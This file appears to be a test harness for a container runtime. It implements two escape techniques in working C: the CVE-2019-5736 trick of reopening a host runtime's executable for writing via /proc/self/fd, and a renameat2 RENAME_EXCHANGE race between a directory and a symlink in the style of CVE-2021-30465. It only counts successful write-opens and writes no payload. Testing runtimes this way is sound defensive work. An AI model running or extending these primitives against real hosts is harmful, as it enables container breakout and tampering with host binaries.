/* The attacker's side of tests/reliability/escapes.sh, built static so it
 * runs inside a busybox container:
 *
 *   attack exe SECONDS      CVE-2019-5736: hold an O_PATH fd of the exe of
 *                           every process that appears (a runtime entering
 *                           the container shows up in its pid namespace),
 *                           and keep trying to reopen each for writing
 *                           through /proc/self/fd, as the exploit did once
 *                           the runtime had exited ("text file busy" until
 *                           then). The container's own busybox does not
 *                           count. Prints "held N written M".
 *   attack swap A B SECONDS CVE-2021-30465 and friends: exchange two paths
 *                           (a directory and a symlink) as fast as possible
 *                           with renameat2(RENAME_EXCHANGE). Prints the count.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double) ts.tv_sec + (double) ts.tv_nsec / 1e9;
}

#define MAXFD 4096
static int held[MAXFD];
static dev_t held_dev[MAXFD];
static ino_t held_ino[MAXFD];
static int nheld;

static int seen(dev_t d, ino_t i)
{
  for (int k = 0; k < nheld; k++)
    if (held_dev[k] == d && held_ino[k] == i)
      return 1;
  return 0;
}

static int attack_exe(double secs)
{
  struct stat self, own;
  if (stat("/proc/self/exe", &self) < 0)
    return 1;
  /* The container's own programs (busybox) are its to write: only a
   * program from outside counts. */
  if (stat("/bin/busybox", &own) < 0)
    own = self;
  long written = 0;
  double end = now() + secs;
  printf("watching /proc\n");
  while (now() < end) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
      if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
        continue;
      char p[300];
      snprintf(p, sizeof p, "/proc/%s/exe", e->d_name);
      int fd = open(p, O_PATH | O_CLOEXEC);
      struct stat st;
      if (fd < 0)
        continue;
      if (fstat(fd, &st) < 0 || (st.st_dev == self.st_dev && st.st_ino == self.st_ino) ||
          (st.st_dev == own.st_dev && st.st_ino == own.st_ino) ||
          seen(st.st_dev, st.st_ino) || nheld == MAXFD) {
        close(fd);
        continue;
      }
      held[nheld] = fd;
      held_dev[nheld] = st.st_dev;
      held_ino[nheld++] = st.st_ino;
    }
    if (d)
      closedir(d);
    for (int k = 0; k < nheld; k++) {
      char p[64];
      snprintf(p, sizeof p, "/proc/self/fd/%d", held[k]);
      int w = open(p, O_WRONLY | O_CLOEXEC);
      if (w >= 0) {
        /* Proof enough: a real exploit would write its payload here. */
        written++;
        fprintf(stderr, "attack: exe %lu:%lu opened for writing\n", (unsigned long) held_dev[k],
                (unsigned long) held_ino[k]);
        close(w);
      }
    }
  }
  printf("held %d written %ld\n", nheld, written);
  return 0;
}

static int attack_swap(const char *a, const char *b, double secs)
{
  long n = 0;
  double end = now() + secs;
  printf("swapping %s and %s\n", a, b);
  while (now() < end)
    for (int k = 0; k < 1000; k++, n++)
      if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0) {
        perror("attack: renameat2");
        return 1;
      }
  printf("swapped %ld\n", n);
  return 0;
}

int main(int argc, char **argv)
{
  setvbuf(stdout, NULL, _IONBF, 0);
  if (argc == 3 && strcmp(argv[1], "exe") == 0)
    return attack_exe(atof(argv[2]));
  if (argc == 5 && strcmp(argv[1], "swap") == 0)
    return attack_swap(argv[2], argv[3], atof(argv[4]));
  fprintf(stderr, "usage: attack exe SECONDS | attack swap A B SECONDS\n");
  return 2;
}
